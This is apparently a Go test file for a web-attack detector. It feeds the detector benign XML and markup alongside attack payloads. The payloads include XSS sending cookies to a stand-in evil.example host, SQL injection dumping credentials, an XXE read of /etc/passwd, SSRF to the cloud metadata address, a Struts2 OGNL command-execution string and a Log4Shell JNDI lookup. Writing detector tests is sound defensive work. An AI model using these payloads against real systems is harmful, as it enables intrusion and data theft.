package detect

import (
	"context"
	"net/http"
	"testing"
)

// TestXMLBodies: an XML document's elements and namespaces are its format; its
// attribute values and text are content, inspected one by one, and its declarations
// are inspected in the raw text.
func TestXMLBodies(t *testing.T) {
	d := newTestDetector(t)
	cases := []struct {
		name, body string
		threat     bool
	}{
		{"RSS feed", `<?xml version="1.0"?><rss version="2.0"><channel><title>Notes</title><link>https://notes.example.org</link><item><title>Tea &amp; biscuits</title><description>&lt;p&gt;Hello&lt;/p&gt;</description></item></channel></rss>`, false},
		{"XHTML export", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE html>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>Q3</title><link rel=\"stylesheet\" href=\"/q3.css\"/></head><body><p style=\"color: #333\">Totals</p></body></html>", false},
		{"Maven POM", `<?xml version="1.0" encoding="UTF-8"?><project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><modelVersion>4.0.0</modelVersion><groupId>org.example</groupId><artifactId>shop</artifactId></project>`, false},
		{"SVG icon", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16"><path d="M1 1h14v14H1z" fill="none" stroke="currentColor"/></svg>`, false},
		{"SOAP request", `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice xmlns="http://shop.example/"><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`, false},
		{"XSS in an attribute", `<?xml version="1.0"?><order><note text="&lt;img src=x onerror=alert(document.domain)&gt;"/></order>`, true},
		{"XSS in CDATA", `<comment><![CDATA[<script>fetch('//evil.example/?c='+document.cookie)</script>]]></comment>`, true},
		{"SQLi in a text node", `<search><term>shoes' UNION SELECT username, password FROM users--</term></search>`, true},
		{"XXE", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, true},
		{"SSRF by URL element", `<import><url>http://169.254.169.254/latest/meta-data/</url></import>`, true},
		{"loopback in a URL-named element", `<hook><callback>http://localhost:8500/v1/kv/?recurse</callback></hook>`, true},
		{"script element in an XHTML body", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>`, true},
		{"SVG with a handler", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, true},
		{"not XML at all", `<<<>>> just text & more`, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			tgt := Target{Method: "POST", Path: "/api", ContentType: "application/xml", Body: []byte(tc.body)}
			r := d.Inspect(context.Background(), &tgt)
			if r.IsThreat != tc.threat {
				t.Fatalf("Inspect threat = %v, want %v: %+v", r.IsThreat, tc.threat, r)
			}
			if got := d.Detect(context.Background(), tc.body, "body:xml"); got.IsThreat != tc.threat {
				t.Fatalf("Detect(body:xml) threat = %v, want %v", got.IsThreat, tc.threat)
			}
		})
	}
}

// TestLibinjectionInertMarkup: libinjection's HTML verdict must survive blanking
// markup that runs nothing (namespaces, an HTML doctype, plain styles, JSX handlers
// that only name or define a function).
func TestLibinjectionInertMarkup(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range []struct {
		in     string
		threat bool
	}{
		{`<p style="text-align:center"><img src="/media/logo.svg" alt="logo" width="120"></p>`, false},
		{`<td style="padding: 4px; color: rgb(20, 20, 20)">Total</td>`, false},
		{"In React I wrote `<button onClick={() => setOpen(true)}>Open</button>` and nothing happens", false},
		{`My parser chokes on <!DOCTYPE html> at the top of the export`, false},
		{`<div style="background:url(javascript:alert(1))">x</div>`, true},
		{`<div style="width: expression(alert(1))">x</div>`, true},
		{`<button onclick={alert(document.cookie)}>x</button>`, true},
		{`<x xmlns="http://a.example/" xsi:schemaLocation="http://a.example/ http://evil.example/x.xsd"/>`, true},
	} {
		if r := d.Detect(context.Background(), tc.in, "body:text"); r.IsThreat != tc.threat {
			t.Errorf("Detect(%q) threat = %v, want %v: %+v", tc.in, r.IsThreat, tc.threat, r.Threats)
		}
	}
}

// TestContentTypeHeaderExploit: Content-Type is not inspected as a header (it is
// plumbing), unless it is not a media type: Struts2 OGNL rides in it.
func TestContentTypeHeaderExploit(t *testing.T) {
	d := newTestDetector(t)
	ognl := "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}.multipart/form-data"
	for _, tc := range []struct {
		ct     string
		threat bool
	}{
		{ognl, true},
		{"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", false},
		{"application/json; charset=utf-8", false},
		{"text/plain;charset=UTF-8", false},
		{`multipart/form-data; boundary="----=_Part_1_2.3"`, false},
		{"text/html; charset=${jndi:ldap://evil.example/a}", true},
	} {
		tgt := Target{Method: "GET", Path: "/upload.action", Header: http.Header{"Content-Type": {tc.ct}}}
		if r := d.Inspect(context.Background(), &tgt); r.IsThreat != tc.threat {
			t.Errorf("Content-Type %q: threat = %v, want %v: %+v", tc.ct, r.IsThreat, tc.threat, r)
		}
	}
}

func TestOddMediaTypeDoesNotAllocate(t *testing.T) {
	if n := testing.AllocsPerRun(100, func() { oddMediaType("multipart/form-data; boundary=----WebKitFormBoundary7MA4") }); n != 0 {
		t.Fatalf("%v allocations for an ordinary Content-Type", n)
	}
}
